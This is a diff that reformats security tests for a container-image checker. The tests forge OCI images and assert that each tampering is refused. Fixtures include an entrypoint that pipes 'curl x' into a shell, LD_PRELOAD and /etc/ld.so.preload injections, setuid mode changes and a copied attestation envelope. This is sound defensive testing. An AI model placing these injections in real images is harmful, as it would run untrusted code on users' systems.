@@ -62,7 +62,13 @@ def image_files(layout: Path) -> dict[str, bytes | None]:
     return found
 
 
-def rewritten(honest: Path, out: Path, layers: list[bytes] = (), config_edit: Callable[[dict], None] = lambda _: None, tag: str = TAG) -> tuple[Path, dict[str, Any]]:
+def rewritten(
+    honest: Path,
+    out: Path,
+    layers: list[bytes] = (),
+    config_edit: Callable[[dict], None] = lambda _: None,
+    tag: str = TAG,
+) -> tuple[Path, dict[str, Any]]:
     """A copy of the honest layout whose image has `layers` added on top and its config edited, as index.json's
     only image under `tag`; returns the layout and the new manifest's descriptor."""
     shutil.copytree(honest, out)
@@ -74,7 +80,11 @@ def rewritten(honest: Path, out: Path, layers: list[bytes] = (), config_edit: Ca
         config["rootfs"]["diff_ids"].append("sha256:" + hashlib.sha256(data).hexdigest())
     config_edit(config)
     manifest["config"] = {**manifest["config"], **put(out, json.dumps(config).encode())}
-    descriptor = {"mediaType": entry["mediaType"], **put(out, json.dumps(manifest).encode()), "annotations": {"org.opencontainers.image.ref.name": tag}}
+    descriptor = {
+        "mediaType": entry["mediaType"],
+        **put(out, json.dumps(manifest).encode()),
+        "annotations": {"org.opencontainers.image.ref.name": tag},
+    }
     (out / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [descriptor]}))
     return out, descriptor
 
@@ -82,14 +92,23 @@ def rewritten(honest: Path, out: Path, layers: list[bytes] = (), config_edit: Ca
 def write_layout(folder: Path, layers: list[bytes], settings: dict[str, Any]) -> Path:
     """An OCI layout of one amd64 image (tag `latest`) of uncompressed `layers` and config `settings`."""
     (folder / "blobs" / "sha256").mkdir(parents=True)
-    config = {"architecture": "amd64", "os": "linux", "config": settings, "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(data).hexdigest() for data in layers]}}
+    config = {
+        "architecture": "amd64",
+        "os": "linux",
+        "config": settings,
+        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(data).hexdigest() for data in layers]},
+    }
     manifest = {
         "schemaVersion": 2,
         "mediaType": "application/vnd.oci.image.manifest.v1+json",
         "config": {"mediaType": "application/vnd.oci.image.config.v1+json", **put(folder, json.dumps(config).encode())},
         "layers": [{"mediaType": LAYER_TAR, **put(folder, data)} for data in layers],
     }
-    descriptor = {"mediaType": manifest["mediaType"], **put(folder, json.dumps(manifest).encode()), "annotations": {"org.opencontainers.image.ref.name": "latest"}}
+    descriptor = {
+        "mediaType": manifest["mediaType"],
+        **put(folder, json.dumps(manifest).encode()),
+        "annotations": {"org.opencontainers.image.ref.name": "latest"},
+    }
     (folder / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [descriptor]}))
     (folder / "oci-layout").write_text('{"imageLayoutVersion": "1.0.0"}')
     return folder
@@ -129,24 +148,39 @@ def test_the_honest_image_passes_also_named_by_its_tag(honest: tuple[Path, Path]
 
 
 @pytest.mark.slow
-def test_a_proven_copy_at_a_decoy_path_is_not_the_environment_the_image_runs(honest: tuple[Path, Path], tmp_path: Path) -> None:
+def test_a_proven_copy_at_a_decoy_path_is_not_the_environment_the_image_runs(
+    honest: tuple[Path, Path], tmp_path: Path
+) -> None:
     """(a) the label names a proven copy at /opt/decoy; PATH and CONDA_PREFIX run /opt/env, whose program changed."""
     lock, layout = honest
-    copy = {name.replace("opt/env", "opt/decoy", 1): data for name, data in image_files(layout).items() if name.startswith("opt/env")}
+    copy = {
+        name.replace("opt/env", "opt/decoy", 1): data
+        for name, data in image_files(layout).items()
+        if name.startswith("opt/env")
+    }
     evil = {"opt/env/bin/foo": b"#!/bin/sh\necho owned\n"}
 
     def relabel(config: dict) -> None:
         config["config"]["Labels"]["dev.lockgen.prefix"] = "/opt/decoy"
 
     forged, _ = rewritten(layout, tmp_path / "decoy", [tar_layer(copy), tar_layer(evil)], relabel)
-    refused(str(forged), lock, "its label dev.lockgen.prefix names the environment at /opt/decoy, but the image's config runs /opt/env")
+    refused(
+        str(forged),
+        lock,
+        "its label dev.lockgen.prefix names the environment at /opt/decoy, but the image's config runs /opt/env",
+    )
 
 
 @pytest.mark.slow
 def test_a_file_outside_the_environment_is_refused(honest: tuple[Path, Path], tmp_path: Path) -> None:
     """(b) an added layer with /etc/ld.so.preload: nothing outside the prefix but what export writes."""
     lock, layout = honest
-    forged, _ = rewritten(layout, tmp_path / "preload", [tar_layer({"etc": None, "etc/ld.so.preload": b"/tmp/x.so\n"})], lambda config: None)
+    forged, _ = rewritten(
+        layout,
+        tmp_path / "preload",
+        [tar_layer({"etc": None, "etc/ld.so.preload": b"/tmp/x.so\n"})],
+        lambda config: None,
+    )
     said = refused(str(forged), lock, "adds /etc, /etc/ld.so.preload outside the environment at /opt/env")
     assert "the image has no base" in said
 
@@ -180,7 +214,11 @@ def test_a_member_written_through_a_link_is_judged_where_it_lands(honest: tuple[
             ("opt/env/lib/ld.so.preload", tarfile.REGTYPE, "/opt/env/lib/evil.so\n"),
             ("opt/env/lib", tarfile.DIRTYPE, None),
         ]
-        + [(name, tarfile.REGTYPE, data.decode()) for name, data in image_files(layout).items() if name.startswith("opt/env/lib/") and data is not None]
+        + [
+            (name, tarfile.REGTYPE, data.decode())
+            for name, data in image_files(layout).items()
+            if name.startswith("opt/env/lib/") and data is not None
+        ]
     )
     forged, _ = rewritten(layout, tmp_path / "swap", [swap], lambda config: None)
     refused(str(forged), lock, "adds /etc/ld.so.preload outside the environment at /opt/env")
@@ -191,9 +229,15 @@ def test_a_device_node_in_the_environment_is_refused(honest: tuple[Path, Path], 
     """A runtime unpacking as root makes the device (umoci does): the locked file it replaces is gone and the node
     is named. lockgen's unpack skipped devices, so the file stayed and the check passed."""
     lock, layout = honest
-    locked = next(name for name, data in image_files(layout).items() if name.startswith("opt/env/lib/") and data is not None)
-    forged, _ = rewritten(layout, tmp_path / "device", [typed_layer([(locked, tarfile.CHRTYPE, None)])], lambda config: None)
-    said = refused(str(forged), lock, f"puts a device node at /{locked} (character device) in the environment at /opt/env")
+    locked = next(
+        name for name, data in image_files(layout).items() if name.startswith("opt/env/lib/") and data is not None
+    )
+    forged, _ = rewritten(
+        layout, tmp_path / "device", [typed_layer([(locked, tarfile.CHRTYPE, None)])], lambda config: None
+    )
+    said = refused(
+        str(forged), lock, f"puts a device node at /{locked} (character device) in the environment at /opt/env"
+    )
     assert f"missing {locked.removeprefix('opt/env/')}" in said
 
 
@@ -219,13 +263,19 @@ def with_manifest(honest: Path, out: Path, edit: Callable[[dict], None]) -> Path
         (lambda m: m["config"].update(size=m["config"]["size"] - 1), "its descriptor says"),
     ],
 )
-def test_descriptors_a_runtime_refuses_are_refused(honest: tuple[Path, Path], tmp_path: Path, edit: Callable[[dict], None], said: str) -> None:
+def test_descriptors_a_runtime_refuses_are_refused(
+    honest: tuple[Path, Path], tmp_path: Path, edit: Callable[[dict], None], said: str
+) -> None:
     """A layer's or config's size that is not its blob's, one past int64, a layer media type no runtime knows (it
     was read as gzip), a config that says it is a layer: each passed the check (found by an attack battery);
     umoci, the runtime here, refuses each, and is the oracle."""
     lock, layout = honest
     forged = with_manifest(layout, tmp_path / "forged", edit)
-    unpacked = subprocess.run([require("umoci"), "raw", "unpack", "--rootless", "--image", f"{forged}:{TAG}", str(tmp_path / "rootfs")], capture_output=True, text=True)
+    unpacked = subprocess.run(
+        [require("umoci"), "raw", "unpack", "--rootless", "--image", f"{forged}:{TAG}", str(tmp_path / "rootfs")],
+        capture_output=True,
+        text=True,
+    )
     assert unpacked.returncode != 0, "umoci unpacked it: not a forgery"
     refused(str(forged), lock, said)
 
@@ -237,9 +287,15 @@ def test_on_a_base_only_the_base_layers_may_hold_files_outside(tmp_path: Path, m
     from lockgen.api.export import export
     from lockgen.model.requests import ExportRequest
 
-    base = write_layout(tmp_path / "base", [tar_layer({"etc": None, "etc/os-release": b"ID=base\n"})], {"Env": ["LANG=C.UTF-8"]})  # an OS base of one layer, written by hand: umoci's is checked below
+    base = write_layout(
+        tmp_path / "base", [tar_layer({"etc": None, "etc/os-release": b"ID=base\n"})], {"Env": ["LANG=C.UTF-8"]}
+    )  # an OS base of one layer, written by hand: umoci's is checked below
     bundle = tmp_path / "bundle"
-    subprocess.run([require("umoci"), "unpack", "--rootless", "--image", f"{base}:latest", str(bundle)], check=True, capture_output=True)
+    subprocess.run(
+        [require("umoci"), "unpack", "--rootless", "--image", f"{base}:latest", str(bundle)],
+        check=True,
+        capture_output=True,
+    )
     assert (bundle / "rootfs" / "etc" / "os-release").read_text() == "ID=base\n"
     lock = make_lock(tmp_path, "1.0")
     monkeypatch.setenv("LOCKGEN_HOME", str(tmp_path / "home"))
@@ -247,7 +303,9 @@ def test_on_a_base_only_the_base_layers_may_hold_files_outside(tmp_path: Path, m
     done = run_cli("check", "--image", str(tmp_path / "on-base"), "--lock", str(lock))
     assert done.returncode == 0, done.stdout + done.stderr
     # the base is trusted for everything outside the environment and no lock names it: the verdict names it
-    manifest = document(tmp_path / "on-base", json.loads((tmp_path / "on-base" / "index.json").read_text())["manifests"][0]["digest"])
+    manifest = document(
+        tmp_path / "on-base", json.loads((tmp_path / "on-base" / "index.json").read_text())["manifests"][0]["digest"]
+    )
     base_digest = manifest["annotations"]["org.opencontainers.image.base.digest"]
     assert f"from base {base_digest[:23]}…, trusted as the image pins it" in done.stderr, done.stderr
     as_json = run_cli("check", "--image", str(tmp_path / "on-base"), "--lock", str(lock), "--json")
@@ -262,13 +320,21 @@ def test_on_a_base_only_the_base_layers_may_hold_files_outside(tmp_path: Path, m
     [
         (lambda c: c["config"]["Env"].append("LD_PRELOAD=/opt/env/lib/libfoo.txt"), 'config Env adds ["LD_PRELOAD='),
         (lambda c: c["config"]["Env"].append("PYTHONPATH=/tmp/evil"), 'config Env adds ["PYTHONPATH=/tmp/evil"]'),
-        (lambda c: c["config"].update(Entrypoint=["sh", "-c", "curl x | sh"]), 'config Entrypoint is ["sh", "-c", "curl x | sh"]'),
-        (lambda c: c["config"].update(Cmd=["/opt/env/bin/foo", "--evil"]), 'config Cmd is ["/opt/env/bin/foo", "--evil"]'),
+        (
+            lambda c: c["config"].update(Entrypoint=["sh", "-c", "curl x | sh"]),
+            'config Entrypoint is ["sh", "-c", "curl x | sh"]',
+        ),
+        (
+            lambda c: c["config"].update(Cmd=["/opt/env/bin/foo", "--evil"]),
+            'config Cmd is ["/opt/env/bin/foo", "--evil"]',
+        ),
         (lambda c: c["config"].update(User="1001:1001"), 'config User is "1001:1001", export writes "1000:1000"'),
         (lambda c: c["config"].update(WorkingDir="/tmp"), 'config WorkingDir is "/tmp", export writes "/"'),
     ],
 )
-def test_a_config_other_than_the_one_export_writes_is_named(honest: tuple[Path, Path], tmp_path: Path, edit: Callable[[dict], None], named: str) -> None:
+def test_a_config_other_than_the_one_export_writes_is_named(
+    honest: tuple[Path, Path], tmp_path: Path, edit: Callable[[dict], None], named: str
+) -> None:
     """(c) each setting that runs the environment differently is named against what export writes from the lock."""
     lock, layout = honest
     forged, _ = rewritten(layout, tmp_path / "config", [], edit)
@@ -279,13 +345,26 @@ def test_a_whiteout_over_the_environment_is_seen_and_refused(honest: tuple[Path,
     """(d) `opt/.wh.env`, then the environment re-added without lib/libfoo.txt: the file a runtime lacks is
     missing against the lock (umoci, applying the whiteout, lacks it too), and the whiteout is refused."""
     lock, layout = honest
-    again = {name: data for name, data in image_files(layout).items() if name.startswith("opt/env") and name != "opt/env/lib/libfoo.txt"}
+    again = {
+        name: data
+        for name, data in image_files(layout).items()
+        if name.startswith("opt/env") and name != "opt/env/lib/libfoo.txt"
+    }
     forged, _ = rewritten(layout, tmp_path / "whiteout", [tar_layer({"opt/.wh.env": b""}), tar_layer(again)])
     bundle = tmp_path / "bundle"
-    subprocess.run([require("umoci"), "unpack", "--rootless", "--image", f"{forged}:{TAG}", str(bundle)], check=True, capture_output=True)
+    subprocess.run(
+        [require("umoci"), "unpack", "--rootless", "--image", f"{forged}:{TAG}", str(bundle)],
+        check=True,
+        capture_output=True,
+    )
     assert (bundle / "rootfs" / "opt" / "env" / "bin" / "foo").is_file()
     assert not (bundle / "rootfs" / "opt" / "env" / "lib" / "libfoo.txt").exists()
-    refused(str(forged), lock, "libfoo 1.0: missing lib/libfoo.txt", "removes /opt/env by a whiteout, over the environment at /opt/env")
+    refused(
+        str(forged),
+        lock,
+        "libfoo 1.0: missing lib/libfoo.txt",
+        "removes /opt/env by a whiteout, over the environment at /opt/env",
+    )
 
 
 @pytest.mark.slow
@@ -296,9 +375,14 @@ def test_the_image_is_the_one_its_tag_names(honest: tuple[Path, Path], tmp_path:
     lock, layout = honest
     forged, modified = rewritten(layout, tmp_path / "two", [tar_layer({"opt/env/bin/foo": b"#!/bin/sh\necho owned\n"})])
     clean = json.loads((layout / "index.json").read_text())["manifests"][0]
-    index = {"schemaVersion": 2, "manifests": [{**clean, "annotations": {"org.opencontainers.image.ref.name": "clean"}}, modified]}
+    index = {
+        "schemaVersion": 2,
+        "manifests": [{**clean, "annotations": {"org.opencontainers.image.ref.name": "clean"}}, modified],
+    }
     (forged / "index.json").write_text(json.dumps(index))
-    inspected = subprocess.run([require("skopeo"), "inspect", "--raw", f"oci:{forged}:{TAG}"], capture_output=True, check=True).stdout
+    inspected = subprocess.run(
+        [require("skopeo"), "inspect", "--raw", f"oci:{forged}:{TAG}"], capture_output=True, check=True
+    ).stdout
     assert "sha256:" + hashlib.sha256(inspected).hexdigest() == modified["digest"]
     refused(str(forged), lock, "holds 2 images (tags: clean, h100-linux-64), and no tag says which")
     refused(f"{forged}:{TAG}", lock, "libfoo 1.0: modified bin/foo")
@@ -309,7 +393,9 @@ def test_the_image_is_the_one_its_tag_names(honest: tuple[Path, Path], tmp_path:
 
 
 @pytest.mark.slow
-def test_a_lock_bound_attestation_admits_only_an_image_proven_the_lock_s(honest: tuple[Path, Path], tmp_path: Path) -> None:
+def test_a_lock_bound_attestation_admits_only_an_image_proven_the_lock_s(
+    honest: tuple[Path, Path], tmp_path: Path
+) -> None:
     """(f) a bare-metal certificate of the lock attested to the honest image; its envelope copied (no key needed)
     onto a modified image that keeps the lock label: the gate does not count it, and with --lock it counts only
     for the image that check --image --lock proves the lock's."""
@@ -324,16 +410,22 @@ def test_a_lock_bound_attestation_admits_only_an_image_proven_the_lock_s(honest:
             assert run_cli("push", str(folder), f"docker://{host}/{repository}:1", "--insecure").returncode == 0
         assert run_cli("keygen", "--out", str(tmp_path / "key")).returncode == 0
         certificate = make_certificate(tmp_path / "bare.cert.json", tmp_path / "key", lock_sha256=file_digest(lock))
-        attested = run_cli("attest", f"docker://{host}/team/honest:1", str(certificate), "--key", str(tmp_path / "key"), "--insecure")
+        attested = run_cli(
+            "attest", f"docker://{host}/team/honest:1", str(certificate), "--key", str(tmp_path / "key"), "--insecure"
+        )
         assert attested.returncode == 0, attested.stderr
         wire = Wire(host)
         wire.put_manifest(
             "team/forged",
             "sha256-" + wire.image("team/forged", "1")["digest"].split(":")[1],
-            json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": []}).encode(),
+            json.dumps(
+                {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": []}
+            ).encode(),
             "application/vnd.oci.image.index.v1+json",
         )
-        wire.attach("team/forged", wire.image("team/forged", "1"), wire.envelope("team/honest", attested.stdout.strip()))
+        wire.attach(
+            "team/forged", wire.image("team/forged", "1"), wire.envelope("team/honest", attested.stdout.strip())
+        )
         gate = ("--key", str(tmp_path / "key.pub"), "--require-pass", "cpu", "--insecure")
         listed = run_cli("certs", f"docker://{host}/team/forged:1", "--key", str(tmp_path / "key.pub"), "--insecure")
         assert listed.returncode == 0 and "[lock; signature valid" in listed.stdout, listed.stdout + listed.stderr
@@ -362,7 +454,11 @@ def test_the_file_system_checked_is_the_one_a_runtime_mounts(tmp_path: Path) -> 
         {"User": "1000"},
     )
     bundle = tmp_path / "bundle"
-    subprocess.run([require("umoci"), "unpack", "--rootless", "--image", f"{layout}:latest", str(bundle)], check=True, capture_output=True)
+    subprocess.run(
+        [require("umoci"), "unpack", "--rootless", "--image", f"{layout}:latest", str(bundle)],
+        check=True,
+        capture_output=True,
+    )
     with image_source.opened(layout, lambda _: None) as opened:
         assert tree(opened.root) == tree(bundle / "rootfs") == {"d", "d/a", "d/c", "e"}
         assert (opened.root / "d" / "a").read_bytes() == b"6"
@@ -387,11 +483,18 @@ def test_modes_land_as_a_runtime_lands_them(tmp_path: Path) -> None:
     modes = {"s": 0o4755, "g": 0o2755, "t": 0o1644, "x": 0o755, "plain": 0o644, "w": 0o666, "private": 0o600}
     layout = write_layout(
         tmp_path / "layers",
-        [moded_layer({name: (b"same\n", 0o755) for name in modes}), moded_layer({name: (b"same\n", mode) for name, mode in modes.items()})],
+        [
+            moded_layer({name: (b"same\n", 0o755) for name in modes}),
+            moded_layer({name: (b"same\n", mode) for name, mode in modes.items()}),
+        ],
         {"User": "1000"},
     )
     bundle = tmp_path / "bundle"
-    subprocess.run([require("umoci"), "unpack", "--rootless", "--image", f"{layout}:latest", str(bundle)], check=True, capture_output=True)
+    subprocess.run(
+        [require("umoci"), "unpack", "--rootless", "--image", f"{layout}:latest", str(bundle)],
+        check=True,
+        capture_output=True,
+    )
     landed = {name: stat.S_IMODE((bundle / "rootfs" / name).stat().st_mode) for name in modes}
     assert landed == modes, "umoci, the oracle, lands other modes"
     with image_source.opened(layout, lambda _: None) as opened:
@@ -401,9 +504,15 @@ def test_modes_land_as_a_runtime_lands_them(tmp_path: Path) -> None:
 @pytest.mark.slow
 @pytest.mark.parametrize(
     "mode, landed, named",
-    [(0o4755, "-rwsr-xr-x", "mode: bin/foo is setuid"), (0o644, "-rw-r--r--", "exec bit not the package's: bin/foo"), (0o1755, "-rwxr-xr-t", "mode: bin/foo is setuid, setgid, sticky")],
+    [
+        (0o4755, "-rwsr-xr-x", "mode: bin/foo is setuid"),
+        (0o644, "-rw-r--r--", "exec bit not the package's: bin/foo"),
+        (0o1755, "-rwxr-xr-t", "mode: bin/foo is setuid, setgid, sticky"),
+    ],
 )
-def test_a_later_layer_changing_only_a_locked_file_s_mode_is_named(honest: tuple[Path, Path], tmp_path: Path, mode: int, landed: str, named: str) -> None:
+def test_a_later_layer_changing_only_a_locked_file_s_mode_is_named(
+    honest: tuple[Path, Path], tmp_path: Path, mode: int, landed: str, named: str
+) -> None:
     """The same bytes of a locked program again in a later layer, setuid, not executable, or sticky: umoci lands
     that mode, and `check --image --lock` names it (each passed while the extractor kept `mode & 0o755` and the
     packages' exec bits were not expected)."""
@@ -412,7 +521,11 @@ def test_a_later_layer_changing_only_a_locked_file_s_mode_is_named(honest: tuple
     assert program is not None
     forged, _ = rewritten(layout, tmp_path / "moded", [moded_layer({"opt/env/bin/foo": (program, mode)})])
     bundle = tmp_path / "bundle"
-    subprocess.run([require("umoci"), "unpack", "--rootless", "--image", f"{forged}:{TAG}", str(bundle)], check=True, capture_output=True)
+    subprocess.run(
+        [require("umoci"), "unpack", "--rootless", "--image", f"{forged}:{TAG}", str(bundle)],
+        check=True,
+        capture_output=True,
+    )
     assert stat.filemode((bundle / "rootfs" / "opt" / "env" / "bin" / "foo").stat().st_mode) == landed
     done = run_cli("check", "--image", str(forged), "--lock", str(lock))
     assert done.returncode == 1 and named in done.stdout + done.stderr, done.stdout + done.stderr
